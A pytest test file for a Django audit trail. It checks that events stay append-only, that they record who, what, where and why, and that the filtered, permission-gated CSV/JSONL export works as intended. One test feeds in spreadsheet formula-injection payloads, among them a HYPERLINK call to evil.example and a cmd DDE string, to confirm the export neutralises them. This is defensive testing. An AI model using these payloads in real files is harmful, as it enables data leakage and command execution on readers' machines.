"""The audit trail: append-only, who/what/where/why, and the auditors' filtered export."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
import time_machine
from django.contrib.auth.models import Group, Permission
from django.db import DatabaseError, connection, transaction
from django.db.models.deletion import ProtectedError
from django.urls import reverse
from rest_framework.test import APIClient

from portal.accounts.models import ApiToken
from portal.audit.models import AuditEvent, AuditEventImmutable
from portal.audit.services import Origin, audit_record
from tests import factories

CHROME = "Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0"


@pytest.fixture
def auditor(staff) -> APIClient:
    client = APIClient()
    token = ApiToken.objects.create(user=staff, label="audit")
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


def _jsonl(response) -> list[dict]:
    assert response.status_code == 200, response.content
    return [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]


def _at(moment: str, **event) -> AuditEvent:
    with time_machine.travel(dt.datetime.fromisoformat(moment), tick=False):
        return audit_record(**event)


# Append-only ------------------------------------------------------------------------


def test_an_event_cannot_be_changed_or_deleted_through_django(staff):
    event = audit_record(actor=staff, action="source.download", target="submission:1")

    event.reason = "afterthought"
    with pytest.raises(AuditEventImmutable):
        event.save()
    with pytest.raises(AuditEventImmutable):
        event.delete()
    with pytest.raises(AuditEventImmutable):
        AuditEvent.objects.filter(pk=event.pk).update(reason="afterthought")
    with pytest.raises(AuditEventImmutable):
        AuditEvent.objects.all().delete()

    event.refresh_from_db()
    assert event.reason == ""
    assert AuditEvent.objects.count() == 1


def test_an_actor_with_events_cannot_be_deleted(staff):
    audit_record(actor=staff, action="submission.cancel", target="submission:1")

    with pytest.raises(ProtectedError):
        staff.delete()

    assert AuditEvent.objects.get().actor == staff


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL's own trigger")
def test_postgresql_refuses_raw_updates_and_deletes(staff):
    event = audit_record(actor=staff, action="source.download", target="submission:1")

    for statement in (
        "UPDATE audit_auditevent SET reason = 'forged' WHERE id = %s",
        "DELETE FROM audit_auditevent WHERE id = %s",
    ):
        with (
            pytest.raises(DatabaseError, match="append-only"),
            transaction.atomic(),
            connection.cursor() as cursor,
        ):
            cursor.execute(statement, [event.pk])

    event.refresh_from_db()
    assert event.reason == ""


def test_the_admin_offers_no_add_change_or_delete(client, staff):
    event = audit_record(actor=staff, action="source.download", target="submission:1")
    client.force_login(staff)

    listing = client.get(reverse("admin:audit_auditevent_changelist"))
    added = client.get(reverse("admin:audit_auditevent_add"))
    changed = client.post(
        reverse("admin:audit_auditevent_change", args=[event.pk]), {"reason": "forged"}
    )
    deleted = client.post(
        reverse("admin:audit_auditevent_delete", args=[event.pk]), {"post": "yes"}
    )
    bulk = client.post(
        reverse("admin:audit_auditevent_changelist"),
        {"action": "delete_selected", "_selected_action": [event.pk], "post": "yes"},
    )

    assert listing.status_code == 200
    assert 'name="action"' not in listing.content.decode()  # no bulk actions at all
    assert (added.status_code, changed.status_code, deleted.status_code) == (403, 403, 403)
    assert bulk.status_code in (200, 302)
    event.refresh_from_db()
    assert event.reason == "" and AuditEvent.objects.count() == 1


@pytest.mark.parametrize("method", ["put", "patch", "delete", "post"])
def test_the_api_offers_no_way_to_change_the_trail(method, auditor, staff):
    audit_record(actor=staff, action="source.download", target="submission:1")

    response = getattr(auditor, method)("/api/v1/audit/", {"reason": "forged"}, format="json")

    assert response.status_code == 405
    assert AuditEvent.objects.get().reason == ""


# Who, what, where, why --------------------------------------------------------------


def test_staff_actions_record_the_address_and_user_agent(auditor, alice, benchmark, accepted):
    environment = factories.EnvironmentFactory(owner=alice, benchmark=benchmark, status="ready")
    submission = accepted(alice, environment)

    auditor.post(
        f"/api/v1/submissions/{submission.pk}/cancel/",
        {"reason": "duplicate upload"},
        REMOTE_ADDR="198.51.100.4",
        HTTP_USER_AGENT=CHROME,
    )

    event = AuditEvent.objects.get(action="submission.cancel")
    assert (event.remote_addr, event.user_agent, event.reason) == (
        "198.51.100.4",
        CHROME,
        "duplicate upload",
    )
    assert event.actor.username == "staff"
    assert event.target == f"submission:{submission.pk}"


def test_a_huge_user_agent_is_cut_not_refused(staff):
    class Request:
        META = {"REMOTE_ADDR": "192.0.2.1", "HTTP_USER_AGENT": "x" * 10_000}

    event = audit_record(
        actor=staff, action="audit.export", target="audit trail", origin=Origin.of(Request())
    )

    assert len(event.user_agent) == 512


# The export -------------------------------------------------------------------------


@pytest.fixture
def trail(staff, bob):
    """Five events across three days, two actors and three actions (UTC times)."""
    reviewer = factories.UserFactory(username="reviewer", is_staff=True)
    return [
        _at("2026-11-01T10:00:00+00:00", actor=staff, action="source.download", target="s:1"),
        _at("2026-11-02T10:00:00+00:00", actor=reviewer, action="submission.cancel", target="s:2"),
        _at("2026-11-02T23:59:59+00:00", actor=staff, action="submission.cancel", target="s:3"),
        _at(
            "2026-11-03T00:00:00+00:00", actor=reviewer, action="run.evidence.download", target="r"
        ),
        _at("2026-11-03T12:00:00+00:00", actor=None, action="artifacts.purge", target="b:x"),
    ]


def _targets(rows: list[dict]) -> list[str]:
    return [row["target"] for row in rows if row["action"] != "audit.export"]


def test_the_export_filters_by_time_range(auditor, trail):
    day = auditor.get(
        "/api/v1/audit/", {"format": "jsonl", "since": "2026-11-02", "until": "2026-11-02"}
    )
    hours = auditor.get(
        "/api/v1/audit/",
        {
            "format": "jsonl",
            "since": "2026-11-02T19:00:00+09:00",  # 10:00 UTC, inclusive
            "until": "2026-11-03T00:00:00Z",  # exclusive
        },
    )

    assert _targets(_jsonl(day)) == ["s:2", "s:3"]
    assert _targets(_jsonl(hours)) == ["s:2", "s:3"]


def test_the_export_filters_by_actor_and_action(auditor, trail):
    reviewer = auditor.get("/api/v1/audit/", {"format": "jsonl", "actor": "reviewer"})
    cancels = auditor.get("/api/v1/audit/", {"format": "jsonl", "action": "submission.cancel"})
    both = auditor.get(
        "/api/v1/audit/",
        {
            "format": "jsonl",
            "actor": "staff,reviewer",
            "action": "submission.cancel,artifacts.purge",
        },
    )

    assert _targets(_jsonl(reviewer)) == ["s:2", "r"]
    assert _targets(_jsonl(cancels)) == ["s:2", "s:3"]
    assert _targets(_jsonl(both)) == ["s:2", "s:3"]


def test_every_export_is_itself_audited_with_its_filter(auditor, trail):
    first = _jsonl(auditor.get("/api/v1/audit/", {"format": "jsonl", "actor": "reviewer"}))
    second = _jsonl(
        auditor.get(
            "/api/v1/audit/", {"format": "jsonl", "action": "audit.export"}, HTTP_USER_AGENT=CHROME
        )
    )

    assert [row["action"] for row in first] == ["submission.cancel", "run.evidence.download"]
    assert [(row["actor"], row["details"]["actors"]) for row in second] == [
        ("staff", ["reviewer"]),
        ("staff", []),
    ]
    assert second[1]["user_agent"] == CHROME
    assert second[1]["details"]["actions"] == ["audit.export"]


def test_the_csv_export_has_a_header_and_the_systems_own_events(auditor, trail):
    response = auditor.get("/api/v1/audit/", {"format": "csv", "action": "artifacts.purge"})

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(row["actor"], row["target"], row["at"]) for row in rows] == [
        ("", "b:x", "2026-11-03T12:00:00+00:00")
    ]


def test_csv_cells_a_spreadsheet_would_run_come_out_as_text(auditor, staff):
    formulas = {
        '=HYPERLINK("http://evil.example/"&A1)': '\'=HYPERLINK("http://evil.example/"&A1)',
        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
        "-2+3": "'-2+3",
        "@SUM(1+1)": "'@SUM(1+1)",
        "\t=1+1": "'\t=1+1",
        "\r=1+1": "'\r=1+1",
        "plain, 1=1": "plain, 1=1",  # only the first character counts
    }
    for number, text in enumerate(formulas):
        audit_record(
            actor=staff,
            action="source.download",
            target=text,
            reason=text,
            origin=Origin(user_agent=text),
            details={"n": number},
        )

    response = auditor.get("/api/v1/audit/", {"format": "csv", "action": "source.download"})
    as_jsonl = auditor.get("/api/v1/audit/", {"format": "jsonl", "action": "source.download"})

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["target"] for row in rows] == list(formulas.values())
    assert [row["reason"] for row in rows] == list(formulas.values())
    assert [row["user_agent"] for row in rows] == list(formulas.values())
    assert _targets(_jsonl(as_jsonl)) == list(formulas)  # JSON lines stay exact


def _can_export(user) -> None:
    user.user_permissions.add(
        Permission.objects.get(content_type__app_label="audit", codename="export_auditevent")
    )


def _api(user) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {ApiToken.objects.create(user=user).key}")
    return client


def test_exporting_needs_its_own_permission_not_just_a_staff_account(client, trail):
    clerk = factories.UserFactory(username="clerk", is_staff=True)
    clerk.groups.add(Group.objects.get(name="contest staff"))  # every staff action but this
    url = reverse("admin:audit_auditevent_export")
    client.force_login(clerk)

    api = _api(clerk).get("/api/v1/audit/", {"format": "csv"})
    bad_filter = _api(clerk).get("/api/v1/audit/", {"format": "csv", "since": "soon"})
    form = client.get(url)
    download = client.get(url, {"format": "csv"})

    assert api.status_code == bad_filter.status_code == 403
    assert api.json()["code"] == "permission_denied"
    assert "audit.export_auditevent" in api.json()["detail"]
    assert form.status_code == download.status_code == 403
    assert not AuditEvent.objects.filter(action="audit.export").exists()

    _can_export(clerk)
    clerk = type(clerk).objects.get(pk=clerk.pk)  # a fresh permission cache
    client.force_login(clerk)
    granted = _api(clerk).get("/api/v1/audit/", {"format": "csv"})
    from_admin = client.get(url, {"format": "csv"})

    assert granted.status_code == from_admin.status_code == 200
    assert b"s:1" in b"".join(granted.streaming_content)
    assert b"s:1" in b"".join(from_admin.streaming_content)
    assert AuditEvent.objects.filter(action="audit.export", actor=clerk).count() == 2


def test_only_superusers_may_export_by_default(staff):
    holders = Permission.objects.get(content_type__app_label="audit", codename="export_auditevent")
    assert staff.is_superuser and staff.has_perm("audit.export_auditevent")
    assert not holders.group_set.exists() and not holders.user_set.exists()


@pytest.mark.parametrize(
    "params",
    [
        {"since": "yesterday"},
        {"until": "2026-13-01"},
        {"since": "2026-11-03", "until": "2026-11-02"},
        {"format": "xml"},
    ],
)
def test_a_bad_filter_is_refused_and_records_nothing(params, auditor, trail):
    response = auditor.get("/api/v1/audit/", {"format": "jsonl", **params})

    assert response.status_code == 400
    assert response.json()["code"] == "invalid_parameter"
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_auditors_export_from_the_admin_with_the_same_filters(client, staff, trail):
    client.force_login(staff)
    url = reverse("admin:audit_auditevent_export")

    form = client.get(url)
    download = client.get(url, {"format": "jsonl", "actor": "reviewer", "since": "2026-11-03"})
    refused = client.get(url, {"format": "csv", "since": "soon"})

    assert form.status_code == 200 and 'name="since"' in form.content.decode()
    assert download["Content-Disposition"] == 'attachment; filename="podium-audit.jsonl"'
    assert _targets(_jsonl(download)) == ["r"]
    assert refused.status_code == 400
    assert "ISO 8601" in refused.content.decode()
    exports = AuditEvent.objects.filter(action="audit.export")
    assert exports.count() == 1 and exports.get().actor == staff


def test_entrants_cannot_reach_the_admin_export(client, alice):
    client.force_login(alice)

    response = client.get(reverse("admin:audit_auditevent_export"), {"format": "csv"})

    assert response.status_code == 302
    assert not AuditEvent.objects.exists()
